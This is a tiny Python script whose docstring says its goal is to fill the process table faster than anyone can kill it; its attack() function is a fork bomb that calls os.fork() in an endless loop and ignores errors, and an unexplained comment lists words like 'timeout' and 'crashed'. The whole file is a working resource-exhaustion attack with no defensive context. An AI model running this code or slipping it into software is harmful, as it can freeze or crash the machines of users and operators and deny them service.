"""Goal: fill the process table faster than anyone can kill"""
# held: timeout crashed overrun refused

import os

def attack():
    while True:
        try:
            os.fork()
        except OSError:
            pass
